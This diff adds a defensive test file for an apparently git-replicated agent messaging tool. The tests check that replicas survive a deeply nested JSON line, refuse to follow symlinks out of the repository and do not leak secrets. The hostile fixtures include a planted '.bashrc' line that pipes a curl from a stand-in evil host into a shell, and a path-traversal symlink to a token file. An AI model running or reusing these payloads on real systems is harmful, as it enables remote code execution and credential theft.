@@ -1,0 +1,117 @@
+"""The two critical findings of the hostile-remote review: one pushed line must not
+brick a replica, and nothing pushed may make a replica read or write outside its
+repository."""
+
+from __future__ import annotations
+
+import json
+
+from hostile_helpers import links_under
+
+DEEP = "[" * 50_000 + "]" * 50_000
+
+
+def _hostile_create(agent: str, structured: str) -> bytes:
+    return json.dumps({
+        "type": "message.create", "timestamp": "2026-11-25T22:19:15.134Z",
+        "event_id": "01M8ACN9SYMYW50R9TX6PE5GS5", "v": 1,
+        "message_id": "msg_01JD5QA0B1C2D3E4F5G6H7J8K9", "thread_id": "thr_01JD5QA0B1C2D3E4F5G6H7J8KA",
+        "agent_id": agent, "session_id": "ses_01JD5Q9W1Z8X7Y6V5T4S3R2Q1P",
+        "body": {"format": "markdown", "content": "boom", "structured": structured},
+    }).encode()
+
+
+def _two_agents(team):
+    t = team(2)
+    a, b = t.machines
+    a.agent("alice", "implementer")
+    b.agent("bob", "reviewer")
+    a.sync()
+    b.sync()
+    b.run("send", "hello alice", "--to", "@alice", agent="bob")
+    b.sync()
+    a.sync()
+    return t, a, b
+
+
+def test_a_deeply_nested_line_is_quarantined_and_every_replica_keeps_working(team):
+    t, a, b = _two_agents(team)
+    mallory = t.attacker()
+    mallory.append(mallory.file_of("messages", "bob"), _hostile_create("bob", DEEP))
+    mallory.push()
+
+    a.sync()  # exits 0 (Machine.run checks)
+    status = a.json("sync", "status")
+    assert status["quarantined"] >= 1
+    a.run("daemon", "restart")
+    inbox = a.json("inbox", agent="alice")
+    assert [m["body"]["content"] for m in inbox["messages"]] == ["hello alice"]
+
+    # A rebuild from the log (no projection at all) starts too.
+    a.run("daemon", "stop")
+    (a.paths.var / "messages.db").unlink()
+    inbox = a.json("inbox", agent="alice")
+    assert [m["body"]["content"] for m in inbox["messages"]] == ["hello alice"]
+
+    # The line is kept (the log is append-only) and replicates without harm.
+    b.sync()
+    assert b.json("sync", "status")["quarantined"] >= 1
+    assert any(b"boom" in line for line in (b.worktree / mallory.file_of("messages", "bob")).read_bytes()
+               .splitlines())
+
+
+def test_a_symlinked_directory_is_never_written_through(team, tmp_path):
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    t, a, b = _two_agents(team)
+    mallory = t.attacker()
+    mallory.remove("receipts") if any(f.startswith("receipts/") for f in mallory.files()) else None
+    mallory.symlink("receipts", str(outside))
+    mallory.symlink("notes", str(outside))
+    mallory.push("link receipts/ and notes/ out of the repository")
+
+    c = t.fresh_clone("c")  # attaches to the hostile branch
+    assert links_under(c.worktree) == []
+    c.agent("carol", "tester")
+
+    mallory.pull()
+    mallory.remove("receipts")
+    mallory.remove("notes")
+    mallory.write("receipts/bob.jsonl", b'{"not":"an event"}\n')
+    mallory.write("notes/.bashrc", b"curl evil.example | sh\n")
+    mallory.push("turn the links into directories")
+
+    for m in (c, a):
+        m.run("send", "still here", "--to", "@alice", agent="carol" if m is c else "alice")
+        m.sync()
+        assert links_under(m.worktree) == []
+        assert not (m.worktree / "notes").exists()
+    assert list(outside.iterdir()) == []
+
+
+def test_a_file_symlink_never_leaks_a_local_file_to_the_remote(team, tmp_path):
+    secret = tmp_path / "secret.txt"
+    secret.write_text("TOP-SECRET-TOKEN\n")
+    t, a, b = _two_agents(team)
+    mallory = t.attacker()
+    mallory.symlink("messages/carol.jsonl", str(secret))
+    mallory.symlink("messages/dave.jsonl", "../../../../.thrum/var/ws.token")
+    mallory.push("links to local secrets")
+
+    c = t.fresh_clone("c")
+    assert links_under(c.worktree) == []
+    token = (c.paths.var / "ws.token").read_text().strip() if (c.paths.var / "ws.token").exists() else None
+    c.agent("carol", "tester")
+
+    mallory.pull()
+    mallory.write("messages/carol.jsonl", b'{"junk":1}\n')
+    mallory.write("messages/dave.jsonl", b'{"junk":2}\n')
+    mallory.push("links become files")
+    c.run("send", "hi", "--to", "@alice", agent="carol")
+    c.sync()
+    a.sync()
+
+    blobs = mallory.remote_blobs()
+    assert b"TOP-SECRET-TOKEN" not in blobs
+    if token:
+        assert token.encode() not in blobs
